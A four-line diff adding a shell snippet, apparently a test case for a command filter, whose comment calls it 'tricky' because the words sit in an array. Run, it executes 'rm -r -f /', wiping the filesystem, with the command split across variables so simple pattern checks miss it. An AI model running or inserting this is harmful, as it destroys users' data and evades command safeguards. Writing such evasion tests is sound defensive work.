@@ -1,0 +1,4 @@
+# tricky: the words are in an array
+args=(-r -f /)
+cmd=(rm "${args[@]}")
+"${cmd[@]}"
